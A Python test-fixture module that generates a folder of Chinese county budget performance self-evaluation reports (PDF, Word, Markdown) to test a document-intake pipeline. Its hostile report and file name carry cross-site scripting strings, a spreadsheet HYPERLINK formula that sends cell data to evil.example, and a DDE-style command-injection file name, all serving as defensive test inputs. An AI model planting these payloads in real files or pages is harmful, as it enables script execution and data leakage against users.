"""A folder of reports as units send them in: PDF, Word and text, right, wrong and hostile; for the shell's tests."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

from docx import Document
from reportlab.lib.pagesizes import A4
from reportlab.lib.styles import ParagraphStyle
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.platypus import Paragraph, SimpleDocTemplate, Table

from pipeline.shell import run
from pipeline.shell.intake import load_patterns

HEAD = ("一级指标", "二级指标", "三级指标", "年度指标值", "实际完成值", "分值", "得分", "偏差原因")
ROWS = (
    ("产出", "数量", "培训人次", "≥100人次", "120人次", "40", "40", ""),
    ("产出", "质量", "培训合格率", "≥95%", "96%", "30", "30", ""),
    ("效益", "社会效益", "就业率", "≥90%", "92%", "20", "20", ""),
    ("满意度", "服务对象满意度", "学员满意度", "≥90%", "93%", "10", "10", ""),
)
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"看")'
HOSTILE = f"""# {SCRIPT}县2023年度项目支出绩效自评表

| 资金 | 年初预算数 | 全年预算数 | 实际支出数 | 执行率 |
|---|---|---|---|---|
| 全年支出 | 1241.99 | 1745.81 | 1745.81 | 141% |

| {" | ".join(HEAD)} |
|---|---|---|---|---|---|---|---|
| 产出 | 数量 | {FORMULA} | ≥100人次 | 120人次 | 50 | 50 | @SUM(A1) |
| 产出 | 质量 | <img src=x onerror=alert(1)> | ≥95% | 96% | 30 | 30 | +1+1 |
| 满意度 | 满意度 | " onmouseover="alert(1) | ≥90% | 93% | 20 | 20 | -2+3 |
| 合计 | | | | | 100 | 99 | =1+1 |
"""
RIGHT = """# 2023年度宁县水务局部门整体支出绩效自评表

| 资金 | 年初预算数 | 全年预算数 | 实际支出数 | 执行率 |
|---|---|---|---|---|
| 全年支出 | 1241.99 | 1745.81 | 1745.81 | 100% |
"""
HOSTILE_NAME = "=cmd|' C calc'!A0 <img src=x onerror=alert(1)> javascript:alert(1).md"


def total(score: str) -> tuple[str, ...]:
    return ("合计", "", "", "", "", "100", score, "")


def pdf(unit: str, score: str) -> bytes:
    """A report whose rows add up to 100, and whose total row says `score`."""
    if "STSong-Light" not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    style = ParagraphStyle("title", fontName="STSong-Light", fontSize=14, leading=20)
    grid = Table([HEAD, *ROWS, total(score)], repeatRows=1)
    grid.setStyle([("FONT", (0, 0), (-1, -1), "STSong-Light", 9), ("GRID", (0, 0), (-1, -1), 0.5, "black")])
    out = BytesIO()
    title = Paragraph(f"{unit}2023年度项目支出绩效自评表", style)
    SimpleDocTemplate(out, pagesize=A4, invariant=1).build([title, grid])
    return out.getvalue()


def docx(unit: str, score: str) -> bytes:
    """The same in Word."""
    document = Document()
    document.add_paragraph(f"{unit}2023年度项目支出绩效自评表")
    table = document.add_table(0, len(HEAD))
    for row in (HEAD, *ROWS, total(score)):
        for cell, text in zip(table.add_row().cells, row, strict=True):
            cell.text = text
    table.cell(1, 0).merge(table.cell(2, 0)).text = "产出"
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def written(folder: Path) -> Path:
    """The folder, filled: right, doubtful and wrong reports, a hostile one, and one that cannot be read."""
    folder.mkdir()
    (folder / "right.md").write_text(RIGHT, encoding="utf-8")
    (folder / "weights.pdf").write_bytes(pdf("合水县财政局", "100"))
    (folder / "wrong.pdf").write_bytes(pdf("正宁县人社局", "98"))
    (folder / "wrong.docx").write_bytes(docx("华池县教育局", "97"))
    (folder / "empty.pdf").write_bytes(b"")
    (folder / HOSTILE_NAME).write_text(HOSTILE, encoding="utf-8")
    return folder


def extracted(folder: Path, out: Path, **options: str) -> Path:
    """Results of a run over `folder`; its decisions lie beside `out`."""
    run.extract([folder], out, load_patterns(), run.Options(1, decisions=out.parent / "decisions.sqlite", **options))  # type: ignore[arg-type]
    return out
